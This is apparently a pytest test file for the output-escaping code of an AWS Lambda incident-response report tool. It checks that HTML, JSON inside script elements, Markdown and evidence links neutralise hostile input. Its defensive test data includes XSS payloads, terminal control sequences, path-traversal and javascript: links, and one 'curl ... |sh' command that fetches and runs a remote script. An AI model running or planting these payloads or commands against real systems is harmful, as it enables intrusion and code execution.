"""The one escaping module: HTML text, JSON inside a script element, Markdown."""

from __future__ import annotations

import html as _html
import re

import orjson
import pytest

from lambda_ir import sanitize
from lambda_ir.report.escape import html, markdown, markdown_code, script_json
from lambda_ir.report.html import content_security_policy

PAYLOADS = (
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    "\"' onmouseover=alert(1) x='",
    "</script><!--<script>",
    "a\u2028b\u2029c & d",
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_leaves_no_markup(payload: str) -> None:
    text = html(payload)
    assert not any(ch in text for ch in "<>\"'")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_script_json_cannot_close_the_element_and_round_trips(payload: str) -> None:
    text = script_json({"m": payload, "n": [payload]})
    assert "<" not in text and ">" not in text and "&" not in text
    assert "\u2028" not in text and "\u2029" not in text
    shown = sanitize.field(payload)  # the line separators the page shows as \\u2028
    assert orjson.loads(text) == {"m": shown, "n": [shown]}


def test_script_json_and_html_leave_no_control_raw_even_once_parsed() -> None:
    hostile = "f\x1b]0;x\x07\x9b\u202e\u2066\x7f\x00\r\nend"
    text = script_json({"m": hostile, hostile: [[hostile]]})
    assert text.isascii()
    parsed = orjson.loads(text)
    assert parsed == {
        "m": sanitize.field(hostile),
        sanitize.field(hostile): [[sanitize.field(hostile)]],
    }
    assert sanitize.is_clean(orjson.dumps(parsed).decode())
    page = html(hostile)
    assert sanitize.is_clean(page, lines=True) and page.endswith("\\r\nend")


def test_markdown_neutralises_markup_tables_and_lines() -> None:
    text = markdown("| *x* | <b>y</b>\n# heading `z`")
    assert "\n" not in text and "<" not in text
    assert text == "\\| \\*x\\* \\| &lt;b&gt;y&lt;/b&gt; # heading \\`z\\`"


def test_markdown_code_spans_stay_closed() -> None:
    assert markdown_code("arn:aws:lambda:r:1:function:f") == "`arn:aws:lambda:r:1:function:f`"
    # a backtick cannot be shown in a span: escaped text, never a look-alike (a pasted
    # `--case '/cases/x'id''` would name another folder)
    assert markdown_code("--case '/cases/x`id'") == "--case '/cases/x\\`id'"
    assert markdown_code("fn<script>") == "fn&lt;script&gt;"
    assert markdown_code("") == ""
    # a line break in a key or name shows as `\n`: as a space it named a key the case
    # does not hold (`AKIA FAKELINE` for `AKIA\nFAKELINE`)
    assert markdown_code("AKIA\nFAKELINE") == "`AKIA\\nFAKELINE`"
    assert markdown_code("  two   words ") == "`two words`"


@pytest.mark.parametrize("value", ["curl -s http://203.0.113.9/x|sh", "a|b", "plain", "x `y` <z>"])
def test_a_value_reads_as_itself_in_a_table_and_out_of_one(value: str) -> None:
    # A GFM renderer (markdown-it, as rich uses): in a list item and in a table cell the
    # value shows as the case holds it, `|` as `|` (a span showed `\\|` outside a table)
    from markdown_it import MarkdownIt

    renderer = MarkdownIt("commonmark").enable("table")

    def shown(page: str) -> list[str]:
        text = re.sub(r"<[^>]+>", "", renderer.render(page))
        return [line for line in _html.unescape(text).splitlines() if line]

    cell = markdown_code(value)
    assert shown(f"- env X: {cell}\n") == [f"env X: {value}"]
    assert shown(f"| name | value |\n|---|---|\n| X | {cell} |\n") == ["name", "value", "X", value]


def test_csp_allows_only_the_given_inline_code() -> None:
    csp = content_security_policy(scripts=("alert(1)",), styles=("b{}",))
    assert "default-src 'none'" in csp
    assert "script-src 'sha256-" in csp and "unsafe-inline" not in csp
    assert "connect-src 'none'" in csp and "img-src 'none'" in csp


def test_only_plain_case_paths_become_links() -> None:
    from lambda_ir.report.sections import evidence_link

    assert evidence_link("raw/1/r/%2Faws%2Flambda%2Ffn/aliases.json") == (
        '<a href="raw/1/r/%252Faws%252Flambda%252Ffn/aliases.json">'
        "<code>raw/1/r/%2Faws%2Flambda%2Ffn/aliases.json</code></a>"
    )
    # A compressed file or a blob is no page a browser shows: text, its content inline.
    for opaque in ("logs/1/r/s.jsonl.gz", "trail/1/x.jsonl.zst", "blobs/sha256/aa/" + "a" * 64):
        assert evidence_link(opaque) == f"<code>{opaque}</code>"
    for hostile in ("javascript:alert(1)", "../../etc/passwd", "/etc/passwd", 'a"onclick=x'):
        assert "<a " not in evidence_link(hostile)
